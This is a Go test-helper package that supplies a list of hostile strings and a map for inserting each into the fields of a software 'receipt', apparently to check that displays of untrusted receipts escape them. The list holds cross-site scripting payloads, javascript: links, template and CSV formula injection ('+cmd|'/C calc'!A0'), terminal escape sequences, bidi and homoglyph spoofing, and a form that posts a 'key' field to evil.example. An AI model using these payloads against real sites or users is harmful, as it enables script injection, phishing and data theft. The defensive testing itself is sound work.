// Package receipttest has what tests of whatever shows a stranger's receipt have in common.
package receipttest

import (
	"strings"

	"github.com/quantscope/quantscope/quant/receipt"
)

// Hostile are texts that try to be more than text where they are shown: markup, attributes, links that run, scripts in
// styles, templates, terminal controls, text that runs backwards, and much of it.
func Hostile() []string {
	return []string{
		`<script>window.owned=1</script>`,
		`</script><script>window.owned=1</script>`,
		`<img src=x onerror="window.owned=1">`,
		`"><svg onload=window.owned=1>`,
		`' onmouseover='window.owned=1`,
		`" autofocus onfocus="window.owned=1" x="`,
		`</title><script>window.owned=1</script>`,
		`--><iframe src="javascript:window.owned=1">`,
		`]]><a xlink:href="javascript:window.owned=1">`,
		`javascript:window.owned=1`,
		`data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+`,
		`<a href=javascript:window.owned=1>verified by your bank</a>`,
		`<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<form action=//evil.example><input name=key></form>`,
		`<style>*{background:url(//evil.example)}</style>`,
		`<link rel=stylesheet href=//evil.example>`,
		`<math><mtext></math><img src=x onerror=window.owned=1>`,
		`{{constructor.constructor("window.owned=1")()}}`,
		"${window.owned=1}",
		"`;window.owned=1;`",
		`\"};window.owned=1;//`,
		`&lt;script&gt;window.owned=1&lt;/script&gt;`,
		`&#60;img src=x onerror=window.owned=1&#62;`,
		`%3Cscript%3Ewindow.owned=1%3C/script%3E`,
		"<\x00script>window.owned=1</script>",
		"\x1b]0;owned\x07\x1b[2J\x1b[31mverified",
		"net.onnx\r\nX-Owned: 1",
		"\u202egnp.exe\u2066",
		"net\u200b.onnx\ufeff",
		"\u2028window.owned=1\u2029",
		"” every step matches “",
		"=HYPERLINK(\"//evil.example\")",
		strings.Repeat("<b>", 60),
		strings.Repeat("A", 10_000),
		"\xff\xfe<script>",
		`<noscript><p title="</noscript><img src=x onerror=window.owned=1>">`,
		`<details open ontoggle=window.owned=1>`,
		`<svg><animate onbegin=window.owned=1 attributeName=x dur=1s></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=window.owned=1>#x"/></svg>`,
		`<template shadowrootmode=open><img src=x onerror=window.owned=1></template>`,
		`<input name=innerHTML><input name=attributes>`,
		`[verified](javascript:window.owned=1)`,
		`JaVaScRiPt&colon;window.owned=1`,
		"java\tscript:window.owned=1",
		`__proto__`,
		`%s%n%!v(PANIC=)`,
		`+cmd|'/C calc'!A0`,
		"\x1b]8;;https://evil.example\x1b\\verified\x1b]8;;\x1b\\",
		"\u009b31mverified\u009b0m",
		"net.onnx\x08\x08\x08\x08match",
		"net\U000e0061\U000e0062.onnx",
		"verified\u00a0\u2003match",
		"\u061c\u200f\u202dmatch\u202c",
		"vеrified by Quantscоpe", // two letters are Cyrillic
		"a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
	}
}

// Fields put a text into each place of a receipt of version 2 that takes one, by the place's name.
func Fields() map[string]func(r *receipt.Receipt, text string) {
	return map[string]func(r *receipt.Receipt, text string){
		"engine":       func(r *receipt.Receipt, s string) { r.Engine = s },
		"model.name":   func(r *receipt.Receipt, s string) { r.Model.Name = s },
		"model.source": func(r *receipt.Receipt, s string) { r.Model.Source = "https://example.org/" + s },
		"source":       func(r *receipt.Receipt, s string) { r.Model.Source = s },
		"recipe.name": func(r *receipt.Receipt, s string) {
			r.Recipe.Name = s
			r.RecipeDigest, _ = r.Recipe.Digest()
		},
		"layers.name": func(r *receipt.Receipt, s string) {
			r.Layers = append([]receipt.Layer{}, r.Layers...)
			if len(r.Layers) == 0 {
				r.Layers = []receipt.Layer{{}}
			}
			r.Layers[0].Name = s
		},
	}
}
